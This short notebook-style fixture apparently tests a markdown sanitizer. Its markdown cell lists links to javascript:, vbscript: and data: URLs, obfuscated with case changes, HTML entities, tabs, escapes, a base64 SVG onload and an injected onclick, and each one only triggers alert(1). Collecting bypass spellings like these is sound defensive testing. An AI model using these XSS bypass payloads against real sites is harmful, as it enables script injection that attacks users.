# Links to javascript:, spelled in the ways markdown and browsers undo.
# notebook: quiz
# %% [markdown] extra="q1"
# [a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1)) [d](javascript&colon;alert(1))
# [e](javascript\:alert(1)) [f](<javascript:alert(1)>) [g](< java&#115;cript:alert(1)>)
# [h](<java	script:alert(1)>) [i](&#1;javascript:alert(1)) [j](&#x6A;avascript:alert(1))
# [k](data:text/html,<script>alert(1)</script>) [l](vbscript:msgbox(1)) [m](  java&Tab;script:alert(1))
# [n](javascript&#58;alert(1)) [o](\javascript:alert(1)) [p](java\script:alert(1))
#
# <javascript:alert(1)> ![q](javascript:alert(1)) ![r](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
#
# [s](
# java&#115;cript:alert(1))
#
# [t](x:javascript:alert(1)) [u](https://example.org/&#34;onclick=alert(1)) [v](feed:javascript:alert(1))
